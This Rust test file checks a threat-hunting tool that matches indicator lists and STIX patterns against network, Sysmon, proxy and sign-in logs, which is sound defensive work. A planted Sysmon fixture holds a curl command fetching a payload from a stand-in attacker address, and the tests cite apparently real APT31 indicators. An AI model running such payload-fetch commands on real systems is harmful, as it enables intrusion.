//! Indicators, from lists as others write them to findings beside those of rules.

use std::fs;
use std::path::Path;

use blanik_model::{Finding, IndicatorType, Level};

use crate::data;
use crate::program::{Ran, run};

/// Runs the program with a store of its own.
fn blanik(folder: &Path, args: &[&str]) -> Ran {
    let ran = run(folder, args);
    assert!(ran.code.is_some(), "{}", ran.err);
    ran
}

fn write(folder: &Path, name: &str, text: &str) {
    let path = folder.join(name);
    fs::create_dir_all(path.parent().expect("below the folder")).expect("made");
    fs::write(path, text).expect("written");
}

/// Hunts `logs` with these lists and no store: the findings of indicators.
fn hunt(folder: &Path, lists: &[&str], more: &[&str]) -> Vec<Finding> {
    let mut args = vec!["hunt", "logs", "--no-store", "--json", "--quiet"];
    for list in lists {
        args.extend(["--indicators", list]);
    }
    args.extend(more);
    let ran = blanik(folder, &args);
    assert_eq!(ran.code, Some(0), "{}", ran.err);
    let findings = ran.out.lines().map(|line| serde_json::from_str(line).expect("a finding"));
    findings.filter(|f: &Finding| f.indicator.is_some()).collect()
}

/// A log of each sort, in each of which these two stand: an address and a domain.
fn plant(folder: &Path, address: &str, domain: &str) {
    write(
        folder,
        "logs/conn.log",
        &format!(
            "#separator \\x09\n#path\tconn\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\n\
             #types\ttime\tstring\taddr\tport\taddr\tport\n\
             1700000000.1\tC1\t10.0.0.1\t5000\t{address}\t443\n\
             1700000001.1\tC2\t10.0.0.1\t5001\t192.0.2.200\t443\n"
        ),
    );
    write(
        folder,
        "logs/dns.json",
        &format!(
            "{{\"_path\":\"dns\",\"ts\":1700000002.5,\"uid\":\"C3\",\"id.orig_h\":\"10.0.0.2\",\"id.resp_h\":\"10.0.0.53\",\
             \"query\":\"cdn.{}\"}}\n",
            domain.to_uppercase()
        ),
    );
    write(
        folder,
        "logs/eve.json",
        &format!(
            "{{\"timestamp\":\"2023-11-14T22:13:23.1+0000\",\"event_type\":\"flow\",\"src_ip\":\"{address}\",\"dest_ip\":\"10.0.0.3\",\
             \"proto\":\"TCP\"}}\n{{\"timestamp\":\"2023-11-14T22:13:24.1+0000\",\"event_type\":\"http\",\"src_ip\":\"10.0.0.3\",\
             \"dest_ip\":\"192.0.2.9\",\"http\":{{\"hostname\":\"{domain}\",\"url\":\"/a.php?x=1\",\"http_method\":\"GET\"}}}}\n"
        ),
    );
    write(
        folder,
        "logs/signin.json",
        &format!(
            "{{\"createdDateTime\":\"2023-11-14T22:13:25Z\",\"userPrincipalName\":\"novak@ministry.example\",\"ipAddress\":\"{address}\",\
             \"appDisplayName\":\"Mail\"}}\n"
        ),
    );
    write(
        folder,
        "logs/proxy.json",
        &format!(
            "{{\"when\":\"2023-11-14T22:13:26Z\",\"client\":\"10.0.0.4\",\"request\":\"GET http://{domain}/x HTTP/1.1\",\"status\":200}}\n"
        ),
    );
    let sysmon = format!(
        "{{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"PC1\",\"UtcTime\":\"2023-11-14 22:13:27.000\",\
         \"Image\":\"C:\\\\Windows\\\\System32\\\\curl.exe\",\"CommandLine\":\"curl http:\\/\\/{address}\\/p.bin -o x\",\
         \"Hashes\":\"MD5=00112233445566778899AABBCCDDEEFF\",\"FileVersion\":\"{address}\"}}\n"
    );
    write(folder, "logs/sysmon.json", &sysmon);
    // Of known layout from its second sighting on.
    write(folder, "logs/sysmon2.json", &format!("{sysmon}{sysmon}{sysmon}"));
}

#[test]
fn planted_indicators_are_found_in_each_sort_of_log() {
    let folder = tempfile::tempdir().expect("a folder");
    let at = folder.path();
    plant(at, "203.0.113.66", "evil.example");
    write(
        at,
        "list.txt",
        "# seen\n203[.]0[.]113[.]66\nhxxp://evil[.]example/a.php\nevil.example\n",
    );
    let findings = hunt(at, &["list.txt"], &[]);
    let mut met: Vec<String> = findings
        .iter()
        .map(|f| {
            let hit = f.indicator.as_ref().expect("of an indicator");
            let names: Vec<&str> = f.matched.0.iter().map(|(n, _)| n.as_str()).collect();
            let log = f.source.rsplit('/').next().unwrap_or_default();
            format!("{log}:{} {} {} in {}", f.record, hit.ty, hit.value, names.join(","))
        })
        .collect();
    met.sort();
    assert_eq!(
        met,
        [
            "conn.log:5 address 203.0.113.66 in id.resp_h",
            "dns.json:1 domain evil.example in query",
            "eve.json:1 address 203.0.113.66 in src_ip",
            "eve.json:2 domain evil.example in http.hostname",
            "eve.json:2 url evil.example/a.php in http.url",
            "proxy.json:1 domain evil.example in request",
            "signin.json:1 address 203.0.113.66 in ipAddress",
            "sysmon.json:1 address 203.0.113.66 in CommandLine",
            "sysmon2.json:1 address 203.0.113.66 in CommandLine",
            "sysmon2.json:2 address 203.0.113.66 in CommandLine",
            "sysmon2.json:3 address 203.0.113.66 in CommandLine",
        ]
    );
}

#[test]
fn a_hit_carries_what_its_source_says() {
    let folder = tempfile::tempdir().expect("a folder");
    let at = folder.path();
    plant(at, "203.0.113.66", "evil.example");
    write(
        at,
        "apt.jsonl",
        "{\"type\":\"identity\",\"id\":\"identity--1\",\"name\":\"A CERT\"}\n\
         {\"type\":\"intrusion-set\",\"id\":\"intrusion-set--1\",\"name\":\"APT0\"}\n\
         {\"type\":\"indicator\",\"id\":\"indicator--1\",\"pattern_type\":\"stix\",\"created\":\"2023-01-02T00:00:00Z\",\
          \"pattern\":\"[ipv4-addr:value = '203.0.113.66']\",\"valid_from\":\"2022-01-01T00:00:00Z\",\"valid_until\":\"2023-01-01T00:00:00Z\",\
          \"confidence\":80,\"created_by_ref\":\"identity--1\",\
          \"object_marking_refs\":[\"marking-definition--f88d31f6-486f-44da-b317-01333bde0b82\"]}\n\
         {\"type\":\"indicator\",\"id\":\"indicator--2\",\"pattern_type\":\"stix\",\"valid_from\":\"2022-01-01T00:00:00Z\",\
          \"pattern\":\"[domain-name:value = 'evil.example' AND url:value LIKE '%a.php%']\",\"confidence\":80}\n\
         {\"type\":\"relationship\",\"id\":\"relationship--1\",\"relationship_type\":\"indicates\",\"source_ref\":\"indicator--1\",\
          \"target_ref\":\"intrusion-set--1\"}\n",
    );
    let findings = hunt(at, &["apt.jsonl"], &[]);
    let of = |log: &str| findings.iter().filter(|f| f.source.ends_with(log)).collect::<Vec<_>>();
    let conn = of("conn.log");
    assert_eq!(
        conn[0].rule_title,
        "Indicator of APT0: address 203.0.113.66 (A CERT, 2023-01-02, TLP:AMBER, confidence 80, expired)"
    );
    assert_eq!(
        (conn[0].level, conn[0].tags.as_slice()),
        (Level::Low, &["tlp.amber".to_owned()][..])
    );
    let hit = conn[0].indicator.as_ref().expect("of an indicator");
    assert!(hit.is_expired() && hit.statements[0].expired);
    let http: Vec<_> = of("eve.json");
    assert_eq!(http.len(), 2);
    assert_eq!(http[1].indicator.as_ref().expect("of a pattern").ty, IndicatorType::Pattern);
}

#[test]
fn a_pattern_that_needs_several_events_is_joined() {
    let folder = tempfile::tempdir().expect("a folder");
    let at = folder.path();
    write(
        at,
        "logs/dns.json",
        "{\"ts\":1709290000.0,\"uid\":\"C1\",\"id.orig_h\":\"10.0.0.5\",\"id.orig_p\":1,\"id.resp_h\":\"10.0.0.1\",\
          \"id.resp_p\":53,\"proto\":\"udp\",\"query\":\"evil.example\",\"qtype_name\":\"A\",\"rcode_name\":\"NOERROR\"}\n",
    );
    let conn = |ts: u32| {
        format!(
            "{{\"ts\":{ts}.0,\"uid\":\"C{ts}\",\"id.orig_h\":\"10.0.0.5\",\"id.orig_p\":5,\"id.resp_h\":\"203.0.113.66\",\
             \"id.resp_p\":443,\"proto\":\"tcp\",\"conn_state\":\"SF\",\"missed_bytes\":0}}\n"
        )
    };
    write(at, "logs/conn.json", &[conn(1_709_289_000), conn(1_709_290_060)].concat());
    write(
        at,
        "apt.jsonl",
        "{\"type\":\"indicator\",\"id\":\"indicator--1\",\"pattern_type\":\"stix\",\"valid_from\":\"2022-01-01T00:00:00Z\",\
          \"pattern\":\"([domain-name:value = 'evil.example'] FOLLOWEDBY [ipv4-addr:value = '203.0.113.66']) \
          WITHIN 600 SECONDS\"}\n",
    );
    let findings = hunt(at, &["apt.jsonl"], &[]);
    let (joined, parts): (Vec<&Finding>, Vec<_>) =
        findings.iter().partition(|f| f.correlation.is_some());
    assert_eq!((joined.len(), parts.len()), (1, 3));
    assert!(parts.iter().all(|f| f.level == Level::Low));
    let of = joined[0].correlation.as_ref().expect("of several events");
    let events: Vec<_> = of
        .events
        .iter()
        .map(|e| (e.source.rsplit('/').next().unwrap_or_default(), e.record))
        .collect();
    assert_eq!(events, [("dns.json", 1), ("conn.json", 2)]);
    assert_eq!((of.ty.as_str(), joined[0].level), ("stix_pattern", Level::High));
    assert!(!joined[0].indicator.as_ref().expect("of a pattern").partial);
}

#[test]
fn warning_lists_mute_and_say_so() {
    let folder = tempfile::tempdir().expect("a folder");
    let at = folder.path();
    plant(at, "203.0.113.66", "evil.example");
    write(at, "list.txt", "203.0.113.66\n10.0.0.1\nevil.example\n");
    write(
        at,
        "warn/list.json",
        "{\"name\":\"Sites\",\"type\":\"string\",\"version\":1,\"list\":[\"evil.example\"],\"matching_attributes\":[\"domain\"]}",
    );
    let findings = hunt(at, &["list.txt", "warn"], &["--summary", "summary.json"]);
    assert!(
        findings.iter().all(|f| f.indicator.as_ref().is_some_and(|h| h.value == "203.0.113.66"))
    );
    let summary = fs::read_to_string(at.join("summary.json")).expect("written");
    let summary: serde_json::Value = serde_json::from_str(&summary).expect("JSON");
    assert_eq!(
        summary["read"]["indicators"],
        serde_json::json!({
            "indicators": 1, "statements": 1,
            "muted": {"Sites": 1, "private and special addresses": 1}
        })
    );
}

#[test]
fn the_store_remembers_and_rebuilds() {
    let folder = tempfile::tempdir().expect("a folder");
    let at = folder.path();
    plant(at, "203.0.113.66", "evil.example");
    write(at, "feeds/apt_nobody.txt", "203.0.113.66\nno indicator in this line at all\n");
    let added =
        blanik(at, &["indicators", "add", "feeds", "--store", "s", "--losses", "lost.jsonl"]);
    assert_eq!(added.code, Some(0), "{}", added.err);
    assert!(added.out.contains("feeds/apt_nobody.txt  1 indicator, 1 not taken"), "{}", added.out);
    let lost = fs::read_to_string(at.join("lost.jsonl")).expect("written");
    assert!(lost.contains("\"place\":2"), "{lost}");
    let again = || blanik(at, &["hunt", "logs/conn.log", "--store", "s", "--json"]);
    let first = again();
    assert!(first.out.contains("Indicator of nobody: address 203.0.113.66"), "{}", first.out);
    for (name, bytes) in [("set.bin", &b"blanikI1 damaged"[..]), ("set.json", b"{")] {
        fs::write(at.join("s/indicators").join(name), bytes).expect("written");
        let ran = again();
        assert_eq!(ran.out, first.out);
        assert!(ran.err.contains("is damaged"), "{}", ran.err);
        assert!(!again().err.contains("is damaged"));
    }
    let list = blanik(at, &["indicators", "list", "--store", "s"]);
    assert!(list.out.contains("1 indicator of 1 list"), "{}", list.out);
}

#[test]
fn findings_are_the_same_for_every_number_of_threads() {
    let folder = tempfile::tempdir().expect("a folder");
    let at = folder.path();
    plant(at, "203.0.113.66", "evil.example");
    write(at, "list.txt", "203.0.113.0/24\n203.0.113.66\nevil.example\n");
    let with = |n: &str| {
        blanik(
            at,
            &[
                "hunt",
                "logs",
                "--no-store",
                "--indicators",
                "list.txt",
                "--json",
                "-q",
                "--threads",
                n,
            ],
        )
        .out
    };
    assert_eq!(with("1"), with("3"));
    assert!(!with("1").is_empty());
}

/// Loads a folder of the data set: taken and not taken, as `indicators add` counts them.
fn loads(name: &str, want: &str) {
    let Some(path) = data::path(&format!("cti/{name}")) else { return };
    let folder = tempfile::tempdir().expect("a folder");
    let path = path.canonicalize().expect("it is there");
    let at = path.parent().expect("in cti");
    let (store, lost) = (folder.path().join("s"), folder.path().join("lost.jsonl"));
    let (store, lost) = (store.to_string_lossy(), lost.to_string_lossy());
    let ran = blanik(at, &["indicators", "add", name, "--store", &store, "--losses", &lost]);
    assert_eq!(ran.code, Some(0), "{}", ran.err);
    let lost = fs::read_to_string(&*lost).expect("written");
    let not_taken = lost.lines().count();
    let last = ran.out.lines().find(|line| line.contains(" indicators of ")).unwrap_or_default();
    let counts = last.split_once(": ").map_or("", |(_, counts)| counts);
    assert_eq!(format!("{counts}, {not_taken} not taken"), want, "{name}");
}

#[test]
fn every_vendor_list_loads_with_its_losses_counted() {
    for (name, want) in VENDORS {
        loads(name, want);
    }
}

/// Distinct indicators and places that hold none, by folder of the data set.
const VENDORS: &[(&str, &str)] = &[
    ("apt31", "330 indicators of 5 lists, 504 not taken"),
    ("ioc-eset-dev", "11,253 indicators of 252 lists, 9861 not taken"),
    ("ioc-harfanglab-dev", "2,781 indicators of 25 lists, 1637 not taken"),
    ("ioc-talos-dev", "7,152 indicators of 153 lists, 895 not taken"),
    ("ioc-volexity-dev", "756 indicators of 22 lists, 24 not taken"),
    ("maltrail-apt-trails", "170,546 indicators of 339 lists, 3671 not taken"),
    ("misp-warninglists", "0 indicators of 136 lists, 0 not taken"),
];

#[test]
fn published_lists_are_met_in_flows_proxies_and_sign_ins() {
    let Some(apt31) = data::path("cti/apt31") else { return };
    let folder = tempfile::tempdir().expect("a folder");
    let at = folder.path();
    // The first address of CERT-FR's list of routers, and the first domain of Sekoia's bundle.
    plant(at, "105.154.12.165", "api.ontracting.com");
    let apt31 = apt31.canonicalize().expect("it is there");
    let apt31 = apt31.to_string_lossy();
    let findings = hunt(at, &[&apt31], &[]);
    let logs = |value: &str| {
        let of = |f: &&Finding| f.indicator.as_ref().is_some_and(|hit| hit.value == value);
        let name = |f: &Finding| f.source.rsplit('/').next().unwrap_or_default().to_owned();
        let mut logs: Vec<String> = findings.iter().filter(of).map(name).collect();
        logs.dedup();
        logs.sort();
        logs.dedup();
        logs
    };
    assert_eq!(
        logs("105.154.12.165"),
        ["conn.log", "eve.json", "signin.json", "sysmon.json", "sysmon2.json"]
    );
    assert_eq!(logs("api.ontracting.com"), ["dns.json", "eve.json", "proxy.json"]);
    assert!(
        findings
            .iter()
            .all(|f| f.indicator.as_ref().is_some_and(|h| h.actors().contains(&"APT31")))
    );
}

/// The relays that CERT-FR and Sekoia published are the exercise's; their files, as they come, find them.
#[test]
fn published_relays_match_in_the_exercise() {
    let folder = tempfile::tempdir().expect("a folder");
    let exercise = blanik::demo::write_exercise(folder.path(), 1).expect("written");
    let logs = exercise.logs.to_str().expect("a path of ours");
    for list in ["cti/apt31/certfr", "cti/apt31/IOCs"] {
        let Some(list) = data::path(list) else { continue };
        let list = list.to_str().expect("a path of ours");
        let ran = blanik(
            folder.path(),
            &["hunt", logs, "--no-store", "--indicators", list, "--json", "-q"],
        );
        let findings = ran.out.lines().map(|line| serde_json::from_str(line).expect("a finding"));
        let kinds: Vec<String> = findings
            .filter(|finding: &Finding| finding.indicator.is_some())
            .map(|finding| finding.kind)
            .collect();
        for wanted in ["nfdump/flow", "zeek/conn", "/proxy", "azure/signinlogs", "m365/"] {
            assert!(kinds.iter().any(|kind| kind.contains(wanted)), "{list}: none in {wanted}");
        }
    }
}
